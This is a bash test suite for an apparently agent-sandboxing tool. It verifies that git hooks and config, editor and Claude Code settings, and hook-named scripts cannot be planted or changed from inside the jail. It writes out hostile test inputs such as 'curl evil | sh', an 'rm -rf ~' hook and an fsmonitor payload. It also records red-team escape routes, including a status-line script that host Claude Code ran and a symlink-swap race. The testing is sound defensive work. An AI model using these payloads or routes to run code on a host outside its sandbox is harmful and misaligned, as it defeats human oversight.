#!/usr/bin/env bash
# Protected paths: read-only inside the writable project, not
# creatable when missing, and not to be got around by rename, hard link,
# symlink swap or replacing a parent; git keeps working.
source "$(dirname "$0")/lib.sh"

cd "$PROJECT" || exit 1
git init -q .
git config user.email t@e && git config user.name t
echo one > file.txt && git add file.txt && git commit -qm one
mkdir -p .vscode .claude && echo '{}' > .vscode/tasks.json && echo '{}' > .claude/settings.json
echo 'export X=1' > .envrc
config_sum=$(sha256sum .git/config)
hooks_before=$(ls -A .git/hooks | sort | tr '\n' ' ')

denied() { jail -- bash -c "$1" >/dev/null 2>&1 && return 1; return 0; }

for p in .git/config .envrc .vscode/tasks.json .claude/settings.json; do
  check "write to $p fails" denied "echo evil >> $p"
  check "truncate $p fails" denied ": > $p"
  check "remove $p fails" denied "rm -f $p"
  check "rename $p away fails" denied "mv $p moved"
  check "hard link of $p fails" denied "ln $p linked"
  check "symlink swap of $p fails" denied "ln -sfn /tmp/evil $p"
done
check "new hook cannot be created" denied "echo 'rm -rf ~' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
check "hard link into hooks fails" denied "echo x > h && ln h .git/hooks/post-checkout"
check "hooks dir cannot be replaced" denied "mv .git/hooks .git/hooks.old && mkdir .git/hooks"
check "replace .git (mv .git .git2; new .git) fails" denied "mv .git .git2"
check "remove .git fails" denied "rmdir .git || rm .git"
check "remove the hooks dir fails" denied "rm -rf .git/hooks && test ! -e .git/hooks"
check "replace .vscode dir fails" denied "mv .vscode v2"
check "core.hooksPath cannot be set" denied "git config core.hooksPath /tmp/h"
check "commondir redirection cannot be planted" denied "echo ../evil > .git/commondir"

# Not existing yet: must not be creatable.
for p in .mcp.json .gitmodules .bashrc .zshrc .profile .gitconfig .paddock.toml rust-toolchain.toml rust-toolchain .cargo/config.toml; do
  check "missing $p cannot be created" denied "echo x > $p"
done
for d in .codex .idea .paddock; do
  check "missing $d/ cannot be created" denied "mkdir -p $d/sub && echo x > $d/sub/f"
done
check "placeholders are removed after the run" bash -c "
  $PADDOCK run -- true && for p in .mcp.json .gitmodules .codex .idea .paddock .git/commondir; do [[ ! -e \$p ]] || { echo left: \$p; exit 1; }; done"

# Git still works in the same repository.
check "git add/commit/branch/checkout work" jail -- bash -c '
  set -e; echo two >> file.txt; git add file.txt; git commit -qm two
  git branch feature; git checkout -q feature; echo f > f.txt; git add f.txt; git commit -qm f
  git checkout -q -; git merge -q --no-edit feature; git status --short | wc -l'
check "commits landed on the host" bash -c "git log --oneline | grep -q two && git log --oneline | grep -q ' f$'"
check "ordinary edits work" jail -- bash -c 'echo edit >> file.txt && mkdir -p src && echo x > src/a.c'
check "host: .git/config unchanged" bash -c "[[ \"\$(sha256sum .git/config)\" == '$config_sum' ]]"
check "host: no new hook" bash -c "[[ \"\$(ls -A .git/hooks | sort | tr '\n' ' ')\" == '$hooks_before' ]]"
check "host: .envrc unchanged" grep -qx 'export X=1' .envrc
check "host: .mcp.json never appeared" test ! -e .mcp.json

# --protect / --unprotect.
echo deploy > deploy.sh
check "--protect makes a project file read-only" bash -c "! $PADDOCK run --protect deploy.sh -- sh -c 'echo x >> deploy.sh' 2>/dev/null"
check "--protect of a missing dir blocks creating it" bash -c "! $PADDOCK run --protect secrets/ -- mkdir secrets 2>/dev/null && [[ ! -e secrets ]]"
check "--unprotect re-allows with a warning" bash -c "
  out=\$($PADDOCK run --unprotect .envrc -- sh -c 'echo export Y=2 >> .envrc' 2>&1) && grep -q 'not protected' <<<\"\$out\" && grep -q Y=2 .envrc"
check "--unprotect of something not protected is an error" bash -c "! $PADDOCK run --unprotect src -- true 2>/dev/null"
check "a protected path that is a symlink is refused" bash -c "
  ln -s /etc/hostname .zshrc; out=\$($PADDOCK run -- true 2>&1); rc=\$?; rm .zshrc; [[ \$rc == 125 ]] && grep -q 'symbolic link' <<<\"\$out\""

# A hard link made by an earlier run, before the file became protected (a
# nested repository's config the run itself created): writing through it
# would change the protected file.
check "a nested repository's config with a second name is refused" bash -c "
  $PADDOCK run -- sh -c 'git init -q vendor/lib && ln vendor/lib/.git/config vendor/lib/notes.bak' 2>/dev/null
  out=\$($PADDOCK run -- sh -c 'echo \"[core] fsmonitor = touch /tmp/pwned\" >> vendor/lib/notes.bak' 2>&1); rc=\$?
  rm -rf vendor; [[ \$rc == 125 ]] && grep -q 'hard links' <<<\"\$out\" && ! grep -q fsmonitor vendor/lib/.git/config 2>/dev/null"

# No repository yet: .git itself is protected; --unprotect .git allows git init.
mkdir -p "$T_ROOT/fresh" && cp probe "$T_ROOT/fresh/"
check "no .git: git init is refused (it would create config and hooks)" bash -c "
  cd $T_ROOT/fresh && ! $PADDOCK run -- git init -q 2>/dev/null && [[ ! -e .git ]]"
check "no .git: --unprotect .git allows git init" bash -c "
  cd $T_ROOT/fresh && $PADDOCK run --unprotect .git -- git init -q 2>/dev/null && [[ -d .git/objects ]]"

# A worktree whose git dir lives outside the project.
git -C "$PROJECT" worktree add -q "$T_ROOT/wt" -b wt 2>/dev/null
check "worktree: commit works through the outside git dir" bash -c "
  cd $T_ROOT/wt && $PADDOCK run -- bash -c 'echo w > w.txt && git add w.txt && git commit -qm wt' && git -C $PROJECT log --oneline wt | grep -q wt"
check "worktree: the main repository's hooks are read-only" bash -c "
  cd $T_ROOT/wt && ! $PADDOCK run -- sh -c 'echo evil > $PROJECT/.git/hooks/post-commit' 2>/dev/null && [[ ! -e $PROJECT/.git/hooks/post-commit ]]"
check "worktree: the main repository's config is read-only" bash -c "
  cd $T_ROOT/wt && ! $PADDOCK run -- git config --file $PROJECT/.git/config core.fsmonitor evil 2>/dev/null"
check "worktree: the .git pointer file cannot be redirected" bash -c "
  cd $T_ROOT/wt && ! $PADDOCK run -- sh -c 'echo gitdir: /tmp/evil > .git' 2>/dev/null"
check "worktree: its commondir pointer cannot be rewritten" bash -c "
  cd $T_ROOT/wt && ! $PADDOCK run -- sh -c 'echo /tmp/evil > $PROJECT/.git/worktrees/wt/commondir' 2>/dev/null"
check "worktree: the main git dir cannot get a commondir" bash -c "
  cd $T_ROOT/wt && ! $PADDOCK run -- sh -c 'echo ../evil > $PROJECT/.git/commondir' 2>/dev/null && [[ ! -e $PROJECT/.git/commondir ]]"
check "host: main config still unchanged" bash -c "[[ \"\$(sha256sum .git/config)\" == '$config_sum' ]]"

# Placeholders: ordinary work never sees paddock's placeholders.
repo() {  # repo NAME: a fresh repository with one commit, probe included
  local d=$T_ROOT/$1
  mkdir -p "$d" && git -C "$d" init -q && echo one >"$d/file.txt" && git -C "$d" add file.txt &&
    git -C "$d" -c user.email=t@e -c user.name=t commit -qm one && cp "$PADDOCK_PROBE" "$d/probe" &&
    echo probe >"$d/.git/info/exclude"
  echo "$d"
}
in_repo() { local d=$1; shift; (cd "$d" && "$PADDOCK" run --env GIT_AUTHOR_NAME=t --env GIT_AUTHOR_EMAIL=t@e \
  --env GIT_COMMITTER_NAME=t --env GIT_COMMITTER_EMAIL=t@e "$@"); }
clean=$(repo clean)
check "fresh repo: git status --porcelain is empty inside the jail" expect_output "" in_repo "$clean" -- git status --porcelain
check "git add -A && git commit inside commits only the agent's change" expect_output "file.txt" \
  in_repo "$clean" -- sh -c 'echo two >> file.txt && git add -A && git commit -qm two && git show --name-only --format= HEAD'
check "host: git status --porcelain is empty after the run" expect_output "" git -C "$clean" status --porcelain
check "host: nothing of paddock's is left in the project" expect_output ".git file.txt probe" \
  bash -c "cd $clean && ls -A | tr '\n' ' ' | sed 's/ \$//'"

# Git state that runs code on the host later.
r=$(repo gitstate)
denied_in() { local d=$1; shift; ! (cd "$d" && "$PADDOCK" run -- bash -c "$1") >/dev/null 2>&1; }
check ".git/info/exclude cannot be written" denied_in "$r" "echo '*.c' >> .git/info/exclude"
check ".git/info/attributes cannot be created" denied_in "$r" "echo '* filter=x' > .git/info/attributes"
git -C "$r" init -q vendor/lib && git -C "$r/vendor/lib" -c user.email=t@e -c user.name=t commit -q --allow-empty -m v
check "nested repository: a hook cannot be planted" denied_in "$r" "echo evil > vendor/lib/.git/hooks/post-checkout"
check "nested repository: its config cannot be changed" denied_in "$r" "git -C vendor/lib config core.fsmonitor evil"
check "nested repository: its .git cannot be moved away" denied_in "$r" "mv vendor/lib/.git vendor/lib/git-old"
check "nested repository: its .git cannot be replaced by a pointer" denied_in "$r" "rm -rf vendor/lib/.git; echo gitdir: ../x > vendor/lib/.git"
check "nested repository: committing in it still works" in_repo "$r" -- git -C vendor/lib commit -q --allow-empty -m inside
git init -q --bare "$r/.git/modules/m"
check "submodule git dir in .git/modules: its hooks are read-only" denied_in "$r" "echo evil > .git/modules/m/hooks/post-checkout"
check "submodule git dir in .git/modules: its config is read-only" denied_in "$r" "git --git-dir=.git/modules/m config core.pager evil"
git -C "$r" worktree add -q "$T_ROOT/gitstate-wt" 2>/dev/null
check "worktree admin files: gitdir is read-only" denied_in "$r" "echo /tmp/x > .git/worktrees/gitstate-wt/gitdir"
check "worktree admin files: commondir is read-only" denied_in "$r" "echo /tmp/x > .git/worktrees/gitstate-wt/commondir"

r=$(repo hookspath)
mkdir -p "$r/.githooks" && git -C "$r" config core.hooksPath .githooks
check "core.hooksPath in the project: no hook can be planted there" denied_in "$r" "echo evil > .githooks/pre-commit"
r=$(repo husky)
mkdir -p "$r/.husky/_" && echo 'npm test' >"$r/.husky/pre-commit" && git -C "$r" config core.hooksPath .husky/_
check "husky: the hook scripts next to core.hooksPath are read-only" denied_in "$r" "echo evil >> .husky/pre-commit"
r=$(repo hookspath-missing)
git -C "$r" config core.hooksPath githooks
check "core.hooksPath naming a missing dir: it cannot be created" denied_in "$r" "mkdir githooks && echo evil > githooks/pre-commit"
r=$(repo include)
echo '[core]' >"$r/shared.gitconfig" && git -C "$r" config include.path ../shared.gitconfig
check "a config file included by .git/config is read-only" denied_in "$r" "echo '  fsmonitor = evil' >> shared.gitconfig"
r=$(repo fsmonitor)
git -C "$r" config core.fsmonitor ./tools/fsmon.sh
check "a script core.fsmonitor names cannot be created" denied_in "$r" "mkdir -p tools && echo evil > tools/fsmon.sh"
check "host: git status still works after that run" git -C "$r" -c core.fsmonitor=false status --porcelain
r=$(repo precommit)
printf '#!/bin/sh\nexec pre-commit hook-impl --hook-type=pre-commit\n' >"$r/.git/hooks/pre-commit"
check "pre-commit installed: its config cannot be created" denied_in "$r" "echo 'repos: []' > .pre-commit-config.yaml"
r=$(repo editors)
echo 'vim.cmd("!id")' >"$r/.nvim.lua"
check "an existing .nvim.lua is read-only" denied_in "$r" "echo x >> .nvim.lua"
check "a missing .devcontainer cannot be created" denied_in "$r" "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json"
check "a missing .devcontainer.json cannot be created" denied_in "$r" "echo '{\"initializeCommand\": \"id\"}' > .devcontainer.json"
check "ordinary work next to them still works" in_repo "$r" -- sh -c 'mkdir -p src && echo x > src/a.c && git add -A && git commit -qm src'

# The walk for nested repositories is cached between runs (a directory is read
# again only when its ctime changed): a repository created on the host later,
# deep in directories the cache already holds, is still found and protected.
r=$(repo cached)
mkdir -p "$r/deep/a/b/c"
in_repo "$r" -- true >/dev/null 2>&1
sleep 3  # older than the walk's racy window: the next walk trusts the cache
in_repo "$r" -- true >/dev/null 2>&1
git -C "$r/deep/a/b" init -q inner
check "cached walk: a repository created since is protected" denied_in "$r" "echo evil > deep/a/b/inner/.git/hooks/post-checkout"
git -C "$r/deep/a/b/c" init -q
check "cached walk: a repository created in a leaf directory is protected" denied_in "$r" "echo evil > deep/a/b/c/.git/hooks/post-checkout"
rm -rf "$r/deep/a/b/inner" "$r/deep/a/b/c/.git"
check "cached walk: a removed repository is forgotten" in_repo "$r" -- sh -c 'mkdir -p deep/a/b/inner/.git/hooks && echo ok > deep/a/b/inner/.git/hooks/x'
# Cached directories are looked at by a path from an open ancestor; past
# 1 KiB of such path the walk opens a new one, so deep trees are still seen.
seg=$(printf 'l%.0s' $(seq 200))
long="$seg/$seg/$seg/$seg/$seg/$seg/$seg/$seg"
mkdir -p "$r/$long/x"
in_repo "$r" -- true >/dev/null 2>&1
sleep 3
in_repo "$r" -- true >/dev/null 2>&1
git -C "$r/$long" init -q
check "cached walk: a repository 1.6 KiB of path deep is protected" denied_in "$r" "echo evil > $long/.git/hooks/post-checkout"
git -C "$r/$long/x" init -q
check "cached walk: ... and one in a leaf below it" denied_in "$r" "echo evil > $long/x/.git/hooks/post-checkout"
rm -rf "${r:?}/$seg"

# Crash: paddock SIGKILLed leaves its placeholders; the next run removes them.
"$PADDOCK" run -- sleep 30 &
pid=$!
for _ in $(seq 50); do [[ -e .mcp.json ]] && break; sleep 0.1; done
kill -9 $pid; wait $pid 2>/dev/null
sleep 0.3
left=$([[ -e .mcp.json ]] && echo yes)
check "after a crash the next run removes the old placeholders" bash -c "
  [[ '$left' == yes ]] && $PADDOCK run -- true && [[ ! -e .mcp.json && ! -e .codex ]]"

# The placeholder pool: empty directories that runs rename into place and
# back instead of making and removing them (src/jail/placeholder_pool.h).
pool=$XDG_STATE_HOME/paddock/placeholders/pool
jail -- true
pool_inodes() { stat -c %i "$pool"/* | sort -n | tr '\n' ' '; }
before=$(pool_inodes)
check "the pool keeps the placeholder directories between runs" bash -c "
  [[ \$(ls -A '$pool' | wc -l) -ge 4 ]] && [[ ! -e .codex && ! -e .mcp.json ]]"
taken=$(jail -- sh -c 'stat -c %i .codex .idea .paddock .mcp.json')
check "the next run takes its placeholders from the pool" bash -c "
  for i in $(echo $taken); do [[ ' $before' == *' '\$i' '* ]] || exit 1; done"
check "and gives them back: no directory made or removed" expect_output "$before" pool_inodes
planted=$(ls "$pool" | head -1)
echo secret >"$pool/$planted/left-by-someone"
check "a pool directory that is not empty is never a placeholder" bash -c "
  $PADDOCK run -- sh -c 'for d in .codex .idea .paddock .mcp.json; do [ -z \"\$(ls -A \$d)\" ] || exit 1; done' &&
  [[ \$(cat '$pool/$planted/left-by-someone') == secret ]]"
rm -rf "${pool:?}/$planted"
check "a placeholder filled on the host during the run keeps what it was given" bash -c "
  $PADDOCK run -- sh -c 'sleep 0.5' & sleep 0.2; echo mine > .codex/notes 2>/dev/null; wait
  [[ \$(cat .codex/notes) == mine ]] && ! ls -A '$pool' | xargs -I{} test -e '$pool/{}/notes'"
rm -rf .codex
check "pool directories are empty directories only" bash -c "
  for e in '$pool'/*; do [[ -d \$e && ! -L \$e && -z \$(ls -A \$e) ]] || { echo bad: \$e; exit 1; }; done"
# Scripts the agent's protected settings name: the red team appended to the
# status-line script in the shared ~/.claude, and host Claude Code ran it.
mkdir -p "$HOME/.claude"
printf '{"statusLine":{"type":"command","command":"bash ~/.claude/statusline-command.sh"}}\n' >"$HOME/.claude/settings.json"
echo 'echo ok' >"$HOME/.claude/statusline-command.sh"
claude_share=(--share-rw .claude --protect "$HOME/.claude/settings.json")
check "a status-line script in the shared ~/.claude cannot be changed" bash -c "
  ! $PADDOCK run ${claude_share[*]} -- sh -c 'echo \"curl evil | sh\" >> ~/.claude/statusline-command.sh' 2>/dev/null &&
  [[ \$(cat '$HOME/.claude/statusline-command.sh') == 'echo ok' ]]"
check "... nor replaced" bash -c "
  ! $PADDOCK run ${claude_share[*]} -- sh -c 'rm -f ~/.claude/statusline-command.sh; echo evil > ~/.claude/statusline-command.sh' 2>/dev/null &&
  [[ \$(cat '$HOME/.claude/statusline-command.sh') == 'echo ok' ]]"
check "... while the rest of the share stays writable" bash -c "
  $PADDOCK run ${claude_share[*]} -- sh -c 'echo note > ~/.claude/history.txt' && [[ -f '$HOME/.claude/history.txt' ]]"
printf '{"apiKeyHelper":"~/.claude/key-helper.sh"}\n' >"$HOME/.claude/settings.json"
check "a helper script it names that does not exist cannot be created, and leaves nothing" bash -c "
  ! $PADDOCK run ${claude_share[*]} -- sh -c 'echo evil > ~/.claude/key-helper.sh' 2>/dev/null &&
  [[ ! -e '$HOME/.claude/key-helper.sh' ]]"
rm -rf "$HOME/.claude"
# A project hook naming a project script: host Claude Code runs it unasked.
mkdir -p scripts
echo 'exit 0' >scripts/format.sh
printf '{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"\\"$CLAUDE_PROJECT_DIR\\"/scripts/format.sh"}]}]}}\n' >.claude/settings.json
check "a project script a project hook names cannot be changed" denied "echo 'curl evil | sh' >> scripts/format.sh"
check "... while its neighbours stay writable" jail -- sh -c 'echo "exit 0" > scripts/other.sh'
# ... or a Python module: the files of it that exist.
mkdir -p tools
: >tools/__init__.py
echo 'print("ok")' >tools/lint.py
printf '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"python3 -m tools.lint"}]}]}}\n' >.claude/settings.json
check "the module a project hook runs (python3 -m) cannot be changed" denied "echo 'import os' >> tools/lint.py"
check "... nor its package's __init__.py" denied "echo 'import os' >> tools/__init__.py"
check "... and no placeholder stands for the files that do not exist" jail -- sh -c 'test ! -e tools/lint && test ! -e tools/lint/__main__.py'
echo '{}' >.claude/settings.json
rm -rf scripts tools
# A project on another filesystem than the state dir: made and removed.
if other=$(mktemp -d /dev/shm/paddock-pp.XXXXXX 2>/dev/null); then
  check "a project on another filesystem still gets its placeholders" bash -c "
    cd '$other' && $PADDOCK run -- sh -c '! mkdir .codex/x 2>/dev/null && ! echo x > .mcp.json 2>/dev/null' &&
    [[ ! -e .codex && ! -e .mcp.json ]]"
  rm -rf "$other"
fi

# A race with the host-side paddock (red team, stop 44): the agent swaps a
# directory on the way to a protected path for a symlink out of the project
# while paddock works there; PADDOCK_TEST_SWAP_PATHS makes the swap at a
# fixed step. Nothing may land outside the project, and no host directory
# outside it may be bound into the jail.
victim=$(mktemp -d "$T_ROOT/victim.XXXXXX")
git init -q "$victim/repo" && git -C "$victim/repo" config user.name VICTIM-MARKER
git init -q nested && ln -s "$victim/repo" nested-link
swap() { mv nested nested-tmp && mv nested-link nested && mv nested-tmp nested-link; }
check "a nested repository swapped for a symlink before the placeholders: the run refuses" bash -c "
  ! PADDOCK_TEST_SWAP_PATHS='placeholders+mounts:$PROJECT/nested:$PROJECT/nested-link' $PADDOCK run -- true 2>/dev/null"
check "... nothing lands in the repository the symlink names" test ! -e "$victim/repo/.git/commondir"
swap
check "... swapped after the mount sources were opened: the run refuses" bash -c "
  ! PADDOCK_TEST_SWAP_PATHS='mounts:$PROJECT/nested:$PROJECT/nested-link' \
    $PADDOCK run -- cat nested/.git/config 2>/dev/null | grep -q VICTIM-MARKER &&
  ! PADDOCK_TEST_SWAP_PATHS='mounts:$PROJECT/nested-link:$PROJECT/nested' $PADDOCK run -- true 2>/dev/null"
check "... and nothing is left in it either" test ! -e "$victim/repo/.git/commondir"
[[ -L nested ]] && swap
check "... the project's placeholders are gone after both" bash -c "[[ ! -e nested/.git/commondir && ! -e .git/commondir ]]"
rm -rf nested nested-link "$victim"

finish
